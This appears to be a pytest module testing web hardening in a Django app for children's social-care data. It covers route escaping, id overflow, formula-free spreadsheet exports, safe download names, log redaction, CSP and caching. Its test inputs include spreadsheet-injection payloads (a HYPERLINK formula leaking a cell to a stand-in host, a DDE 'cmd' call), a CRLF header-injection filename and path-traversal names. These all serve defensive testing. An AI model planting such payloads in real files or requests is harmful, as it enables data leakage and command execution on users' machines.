"""Web hardening: identifiers that cannot break a route, ids that cannot overflow, downloads with no formula and
a safe name, request paths kept out of the logs, a Content-Security-Policy, and nothing cached for a
signed-in person."""

from __future__ import annotations

import datetime as dt
import io
import logging
import re
from pathlib import Path
from urllib.parse import unquote

import openpyxl
import pytest
from django.test import Client
from django.urls import resolve, reverse

from goldthread.conftest import NORTHBY, OTHER_CHILD, PRACTITIONERS_CHILD, SAMPLE, SAMPLE_AS_AT
from goldthread.converters import decode_text, encode_text
from goldthread.downloads import content_disposition, put, safe_filename, xlsx_workbook
from goldthread.logfilters import NO_PAGE

pytestmark = pytest.mark.django_db

SRC = Path(__file__).resolve().parents[2]  # src/goldthread

# --------------------------------------------------------------------------- identifiers in URLs

AWKWARD = ["North/East", "50% done", "a~b", "~2F", "Équipe Nord", "..", ".", "", " leading and trailing ",
           "A?b#c\\d", "tab\there", "a&b+c=d;e", "10721552", "0042137", "ünïcödé/ščř/日本", "%2F", "~", "~~7E"]


@pytest.mark.parametrize("text", AWKWARD)
def test_any_text_round_trips_through_a_route(text):
    url = reverse("portal:child", args=[NORTHBY, text])
    assert url.startswith(f"/councils/{NORTHBY}/children/") and url.count("/") == 5  # one segment, whatever it holds
    # What the server routes is the percent-decoded path (a %2F becomes "/" before Django sees it).
    assert resolve(unquote(url)).kwargs["child_id"] == text
    assert decode_text(encode_text(text)) == text


def test_ordinary_identifiers_read_as_themselves():
    assert reverse("portal:child", args=[NORTHBY, "10721552"]).endswith("/children/10721552/")
    assert reverse("plans:team", args=[NORTHBY, "Locality 4 Unit 1"]).endswith("/teams/Locality%204%20Unit%201/")
    assert reverse("plans:team", args=[NORTHBY, "North/East"]).endswith("/teams/North~2FEast/")


@pytest.mark.parametrize("segment", ["a~", "a~2", "~zz", "~2G"])
def test_a_broken_escape_is_a_page_that_does_not_exist(client, people, northby_extract, segment):
    client.force_login(people["analyst"])
    assert client.get(f"/councils/{NORTHBY}/children/{segment}/").status_code == 404


TWENTY_DIGITS = "12345678901234567890"


@pytest.mark.parametrize("path", [
    f"/councils/{NORTHBY}/audits/{TWENTY_DIGITS}/",
    f"/councils/{NORTHBY}/audits/programmes/{TWENTY_DIGITS}/results.xlsx",
    f"/councils/{NORTHBY}/audits/actions/{TWENTY_DIGITS}/",
    f"/councils/{NORTHBY}/plan/priorities/{TWENTY_DIGITS}/thread/",
    f"/councils/{NORTHBY}/plan/visits/{TWENTY_DIGITS}/",
    f"/councils/{NORTHBY}/uploads/{TWENTY_DIGITS}/",
    f"/national/interventions/{TWENTY_DIGITS}/edit/",
])
def test_a_twenty_digit_id_is_a_404_not_an_overflow(client, people, path):
    client.force_login(people["manager"])
    assert client.get(path).status_code == 404


def test_eighteen_digits_still_reach_the_view(client, people, northby_extract):
    client.force_login(people["manager"])
    response = client.get(reverse("audits:audit", args=[NORTHBY, 10**17 * 9]))  # 18 digits: looked up, not found
    assert response.status_code == 404 and resolve(f"/councils/{NORTHBY}/audits/{10**17 * 9}/").kwargs == {
        "la": NORTHBY, "audit_id": 10**17 * 9}


def test_no_route_takes_a_plain_int_or_str_for_an_id_or_a_name():
    """Every database id uses <id:...> and every identifier from data <text:...>: a new <int:...> route would be
    a 500 on a 20-digit id again, a new <str:team> one a 500 on a "/"."""
    for urls in SRC.glob("*/urls.py"):
        text = urls.read_text()
        assert "<int:" not in text, urls
        for name in re.findall(r"<str:(\w+)>", text):
            assert name in ("la", "measure_id", "dimension_id"), f"{urls}: <str:{name}> carries text from data; use <text:{name}>"


# A child ID and a team with "/", "%", "~", a space and a non-ASCII letter, through every page that links them.
ODD_CHILD = "NB/5358472 ~5% Ü"
ODD_TEAM = "Locality 4/Unit 1 ~ 100%"


@pytest.fixture
def odd_extract(councils, tmp_path):
    """The sample workbook with child 5358472 (on a child protection plan) and the team "Locality 4 Unit 1" renamed awkwardly."""
    from goldthread.extracts.actions import import_extract

    book = openpyxl.load_workbook(SAMPLE)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if str(cell.value) == OTHER_CHILD:
                    cell.value = ODD_CHILD
                elif cell.value == "Locality 4 Unit 1":
                    cell.value = ODD_TEAM
    path = tmp_path / "odd.xlsx"
    book.save(path)
    return import_extract(councils.get(ons_code=NORTHBY), path, extract_date=SAMPLE_AS_AT).extract


def _hrefs(html: str) -> list[str]:
    return [h.replace("&amp;", "&") for h in re.findall(r'href="([^"]+)"', html)]


def _follow(client, html: str, route: str, **kwargs) -> str:
    """Find the link to the page named ``route`` whose arguments are ``kwargs``, open it, return the page."""
    for href in _hrefs(html):
        path = unquote(href.split("?")[0])
        try:
            match = resolve(path)
        except Exception:  # noqa: S112 - other links on the page
            continue
        if match.view_name == route and all(match.kwargs.get(k) == v for k, v in kwargs.items()):
            response = client.get(href)
            assert response.status_code == 200, (href, response.status_code)
            return response.content.decode()
    raise AssertionError(f"no link to {route} {kwargs} on the page")


def test_a_slash_in_a_child_id_and_a_team_works_through_every_page(client, people, odd_extract):
    from goldthread.plans import actions as plan_actions

    client.force_login(people["analyst"])
    # The children behind a measure link to the child's page, which shows the child.
    children = client.get(reverse("portal:measure_children", args=[NORTHBY, "cpp_open"]))
    assert children.status_code == 200
    child_page = _follow(client, children.content.decode(), "portal:child", child_id=ODD_CHILD)
    assert "NB/5358472 ~5% Ü" in child_page

    # The plan: a priority for the team, its team page, and the golden thread down to the child.
    plan = plan_actions.create_plan(odd_extract.council, title="Plan", vision="Vision")
    priority = plan_actions.save_priority(plan, None, title="Protection", teams=[ODD_TEAM])
    # Both children on plans were visited late (0%): the thread lists them as the children behind the figure.
    plan_actions.add_success_measure(priority=priority, measure_id="cpp_visits_in_timescale",
                                     baseline_date=dt.date(2021, 1, 31), baseline_value=0,
                                     target_date=dt.date(2021, 12, 31), target_value=100)
    priority_page = client.get(reverse("plans:priority", args=[NORTHBY, priority.pk]))
    assert priority_page.status_code == 200
    team_page = _follow(client, priority_page.content.decode(), "plans:team", team=ODD_TEAM)
    assert ODD_TEAM in team_page and "Protection" in team_page

    thread = client.get(reverse("plans:thread", args=[NORTHBY, priority.pk]))
    assert thread.status_code == 200
    thread_html = thread.content.decode()
    assert "Locality 4/Unit 1 ~ 100%" in thread_html
    _follow(client, thread_html, "plans:team", team=ODD_TEAM)
    assert "NB/5358472 ~5% Ü" in _follow(client, thread_html, "portal:child", child_id=ODD_CHILD)


# --------------------------------------------------------------------------- downloads

HOSTILE = ['=HYPERLINK("http://example.com/?leak="&A1,"Click")', "+SUM(1,2)", "-2+3", "@SUM(A1)",
           "=cmd|' /C calc'!A0", "{=1+1}", "http://example.com/", "mailto:x@example.com", "0042137", "1e5"]


def _assert_no_formulas(body: bytes) -> list[str]:
    """Open the workbook independently (openpyxl) and fail on any formula cell or hyperlink; return every text."""
    book = openpyxl.load_workbook(io.BytesIO(body))
    texts = []
    for sheet in book.worksheets:
        assert not getattr(sheet, "_hyperlinks", []), f"hyperlinks on {sheet.title}"
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                assert cell.hyperlink is None, f"{sheet.title}!{cell.coordinate} is a link"
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    return texts


def _filename_in(header: str) -> tuple[str, str | None]:
    plain = re.search(r'filename="((?:[^"\\]|\\.)*)"', header)
    extended = re.search(r"filename\*=utf-8''(\S+)", header)
    assert plain, header
    return plain.group(1), unquote(extended.group(1)) if extended else None


def _assert_safe_download(response, suffix: str) -> None:
    header = response["Content-Disposition"]
    assert header.startswith("attachment;") and "\r" not in header and "\n" not in header
    plain, full = _filename_in(header)
    for name in filter(None, (plain, full)):
        assert not re.search(r'[/\\"\x00-\x1f\x7f]', name), name
        assert name.endswith(suffix) and not name.startswith("."), name
    assert plain.isascii()
    assert "no-store" in response["Cache-Control"]


def test_the_workbook_factory_never_writes_a_formula_a_link_or_a_number_from_text():
    out = io.BytesIO()
    book = xlsx_workbook(out, {"strings_to_formulas": True, "strings_to_urls": True})  # asking does not help
    sheet = book.add_worksheet("Text")
    for r, value in enumerate(HOSTILE):
        sheet.write(r, 0, value)  # the generic write, as write_row uses
        put(sheet, r, 1, value)
    put(sheet, len(HOSTILE), 0, dt.date(2021, 3, 31))
    put(sheet, len(HOSTILE), 1, 42)
    book.close()
    texts = _assert_no_formulas(out.getvalue())
    assert texts.count('=HYPERLINK("http://example.com/?leak="&A1,"Click")') == 2
    assert texts.count("0042137") == 2 and texts.count("1e5") == 2  # text stays text
    sheet = openpyxl.load_workbook(io.BytesIO(out.getvalue()))["Text"]
    assert sheet.cell(len(HOSTILE) + 1, 2).value == 42


@pytest.fixture
def hostile_programme(councils, northby_extract, people):
    """A programme whose audits and actions hold text starting with = + - @ in every field that is exported."""
    from goldthread.audits import actions
    from goldthread.audits.models import Audit, AuditAction, AuditTool

    council = councils.get(ons_code=NORTHBY)
    people["auditor"].first_name, people["auditor"].last_name = "=Eve", "+Mallory"
    people["auditor"].save()
    actions.ensure_shipped_tools(council)
    version = AuditTool.objects.get(council=council, kind=AuditTool.FULL).current
    programme = actions.create_programme(council, title='=HYPERLINK("x")/../"March"', month=dt.date(2021, 3, 1),
                                         tool_version=version, size=2, method="random", seed=1,
                                         user=people["manager"])
    audits = list(programme.audits.order_by("pk"))
    Audit.objects.filter(pk__in=[a.pk for a in audits]).update(
        child_id=HOSTILE[0], allocated_team=HOSTILE[1], allocated_worker=HOSTILE[2], cohort=HOSTILE[3],
        selection_reason=HOSTILE[4], auditor=people["auditor"])
    audit = Audit.objects.get(pk=audits[0].pk)
    findings = {s["key"]: {"evidence": HOSTILE[5], "grade": "good",
                           "answers": {q["key"]: HOSTILE[6] for q in s["questions"]}} for s in version.sections}
    audit = actions.save_audit(audit, revision=audit.revision, findings=findings, overall_grade="good",
                               summary=HOSTILE[0], themes=[HOSTILE[1], HOSTILE[4]], user=people["auditor"],
                               submit=True)
    actions.add_action(audit, kind=AuditAction.CHILD, description=HOSTILE[4], owner=people["practitioner"],
                       due_date=dt.date(2021, 4, 30), priority=AuditAction.HIGH, user=people["auditor"])
    return programme, audit


def test_the_programme_results_workbook_has_no_formula_and_a_safe_name(client, people, hostile_programme):
    programme, _ = hostile_programme
    client.force_login(people["auditor"])
    response = client.get(reverse("audits:programme_results", args=[NORTHBY, programme.pk]))
    assert response.status_code == 200
    texts = _assert_no_formulas(response.content)
    for value in (HOSTILE[0], HOSTILE[1], HOSTILE[2], HOSTILE[3], HOSTILE[4], "=Eve +Mallory"):
        assert value in texts or any(value in t for t in texts), value  # written, as text
    _assert_safe_download(response, ".xlsx")


def test_the_validation_issues_workbook_has_no_formula_and_a_safe_name(client, people, councils):
    """An uploaded value that looks like a formula comes back as text; the uploaded file's name, whatever it
    holds, gives a safe download name."""
    from goldthread.extracts.models import Upload

    issue = {"severity": "warning", "list_number": 1, "sheet": HOSTILE[3], "row": 2, "column": HOSTILE[1],
             "value": HOSTILE[0], "expected": HOSTILE[2], "message": HOSTILE[4]}
    upload = Upload.objects.create(council=councils.get(ons_code=NORTHBY), uploaded_by=people["analyst"],
                                   original_name='..\\evil/"name"\r\nSet-Cookie: x=1.xlsx', stored_name="x.xlsx",
                                   size=1, status=Upload.VALIDATED, issues=[issue])
    client.force_login(people["analyst"])
    response = client.get(reverse("portal:upload_issues", args=[NORTHBY, upload.pk]))
    assert response.status_code == 200
    texts = _assert_no_formulas(response.content)
    assert HOSTILE[0] in texts and HOSTILE[4] in texts
    _assert_safe_download(response, ".xlsx")
    assert "Set-Cookie" not in response.cookies


@pytest.mark.parametrize(("name", "plain", "full"), [
    ("audit-12.pdf", "audit-12.pdf", None),
    ('..\\..//etc/"passwd"\r\n.xlsx', "etc--passwd.xlsx", None),
    ("Équipe Nord validation issues.xlsx", "Equipe Nord validation issues.xlsx", "Équipe Nord validation issues.xlsx"),
    ("\u202egpj.exe", "gpj.exe", None),  # a right-to-left override cannot disguise the extension
    ("日本.xlsx", "download.xlsx", "日本.xlsx"),
    ("", "download", None),
])
def test_download_names_are_safe_with_a_readable_ascii_fallback(name, plain, full):
    header = content_disposition(name)
    assert _filename_in(header) == (plain, full)
    assert header.startswith("attachment; ")


def test_download_names_keep_their_extension_and_a_bounded_length():
    name = safe_filename("x" * 500 + ".docx")
    assert name.endswith(".docx") and len(name) <= 120


def test_exported_audits_and_programmes_are_named_safely(hostile_programme):
    from goldthread.audits.exports import audit_filename, programme_filename

    programme, audit = hostile_programme
    assert audit_filename(audit, "pdf") == f"Case audit {audit.pk} - Northby.pdf"
    name = programme_filename(programme)
    assert name.startswith(f"Audit programme {programme.pk} - ") and name.endswith(".xlsx")
    assert not re.search(r'[/\\"]', name)
    assert audit.child_id not in audit_filename(audit, "docx")


# --------------------------------------------------------------------------- logs


def _logged(caplog) -> str:
    return "\n".join(f"{r.name} {r.getMessage()}" for r in caplog.records)


def test_a_404_on_a_child_page_logs_the_route_not_the_child_id(client, people, northby_extract, caplog):
    client.force_login(people["analyst"])
    with caplog.at_level(logging.WARNING, logger="django.request"):
        response = client.get(reverse("portal:child", args=[NORTHBY, "99887766"]) + "?from=secret+99887766")
    assert response.status_code == 404
    logged = _logged(caplog)
    assert "Not Found: /councils/<str:la>/children/<text:child_id>/" in logged
    assert "99887766" not in logged


def test_a_403_on_a_child_page_logs_the_route_not_the_child_id(client, people, northby_extract, caplog):
    client.force_login(people["viewer"])  # a board member: no child-level records
    with caplog.at_level(logging.WARNING, logger="django.request"):
        response = client.get(reverse("portal:child", args=[NORTHBY, PRACTITIONERS_CHILD]))
    assert response.status_code == 403
    logged = _logged(caplog)
    assert "Forbidden" in logged and "/children/<text:child_id>/" in logged
    assert PRACTITIONERS_CHILD not in logged


def test_a_path_that_matches_no_page_is_left_out_of_the_log(client, people, caplog):
    client.force_login(people["analyst"])
    with caplog.at_level(logging.WARNING, logger="django.request"):
        assert client.get(f"/councils/{NORTHBY}/children/55443322/extra/").status_code == 404
    assert "55443322" not in _logged(caplog) and NO_PAGE in _logged(caplog)


def test_a_csrf_failure_on_a_child_page_logs_no_child_id(people, northby_extract, caplog):
    client = Client(enforce_csrf_checks=True)
    client.force_login(people["analyst"])
    with caplog.at_level(logging.WARNING, logger="django.security.csrf"):
        assert client.post(reverse("portal:child", args=[NORTHBY, "77665544"])).status_code == 403
    assert "CSRF" in _logged(caplog) and "77665544" not in _logged(caplog)


class _Collect(logging.Handler):
    def __init__(self):
        super().__init__()
        self.lines = []

    def emit(self, record):
        self.lines.append(self.format(record))


def test_runserver_request_lines_log_the_route_not_the_child_id():
    """runserver logs every request line on django.server, percent-encoded as sent."""
    collect = _Collect()
    logger = logging.getLogger("django.server")
    logger.addHandler(collect)
    try:
        path = reverse("portal:child", args=[NORTHBY, "NB/4455 Ü"]) + "?from=x+4455"
        logger.warning('"%s" %s %s', f"GET {path} HTTP/1.1", "404", "179")
    finally:
        logger.removeHandler(collect)
    [line] = collect.lines
    assert line == '"GET /councils/<str:la>/children/<text:child_id>/ HTTP/1.1" 404 179'


# --------------------------------------------------------------------------- Content-Security-Policy, caching


def test_pages_carry_a_strict_content_security_policy(client, people):
    client.force_login(people["analyst"])
    policy = client.get(reverse("home"))["Content-Security-Policy"]
    directives = {d.split()[0]: d.split()[1:] for d in policy.split("; ")}
    assert directives["default-src"] == ["'self'"]
    assert directives["script-src"] == ["'self'"] and directives["style-src"] == ["'self'"]
    assert directives["frame-ancestors"] == ["'none'"] and directives["object-src"] == ["'none'"]
    assert directives["form-action"] == ["'self'"] and directives["base-uri"] == ["'self'"]
    assert "'unsafe-inline'" not in policy and "'unsafe-eval'" not in policy
    assert "Content-Security-Policy" in Client().get(reverse("accounts:login"))


def test_no_template_has_an_inline_script_or_style():
    """The policy refuses inline scripts, event-handler attributes and style attributes; none is in a page.
    (audits/export_audit.html is rendered by WeasyPrint into a PDF, never served to a browser.)"""
    for template in SRC.rglob("templates/**/*.html"):
        if template.name == "export_audit.html":
            continue
        html = template.read_text()
        for tag in re.findall(r"<script\b[^>]*>", html):
            assert "src=" in tag, f"{template}: inline script {tag}"
        assert not re.search(r"\sstyle=|<style\b|\son[a-z]+=|javascript:", html), template


def test_everything_a_signed_in_person_gets_is_never_stored(client, people, northby_extract, hostile_programme):
    programme, _ = hostile_programme
    client.force_login(people["analyst"])
    for url in (reverse("portal:child", args=[NORTHBY, "1761444"]),
                reverse("portal:measure_children", args=[NORTHBY, "cpp_open"]),
                reverse("audits:programme_results", args=[NORTHBY, programme.pk]),
                reverse("portal:child", args=[NORTHBY, "no-such-child"])):
        response = client.get(url)
        assert response.status_code in (200, 404), url
        assert "no-store" in response.get("Cache-Control", ""), url


def test_signed_out_pages_and_static_files_are_not_marked_no_store(client, people):
    assert "no-store" not in Client().get(reverse("health")).get("Cache-Control", "")
    client.force_login(people["analyst"])
    static = client.get("/static/govuk/goldthread.css")
    assert static.status_code == 200
    assert "no-store" not in static.get("Cache-Control", "")




def test_goldthread_messages_keep_their_file_paths():
    """The console handler's filter rewrites Django's request messages only: a file path in goldthread's own
    message is not a URL and stays."""
    from goldthread.logfilters import RequestPathFilter

    record = logging.LogRecord("goldthread.extracts.actions", logging.WARNING, __file__, 1,
                               "could not read %s", ("/srv/goldthread/uploads/abc.xlsx",), None)
    assert RequestPathFilter().filter(record) and record.getMessage() == "could not read /srv/goldthread/uploads/abc.xlsx"
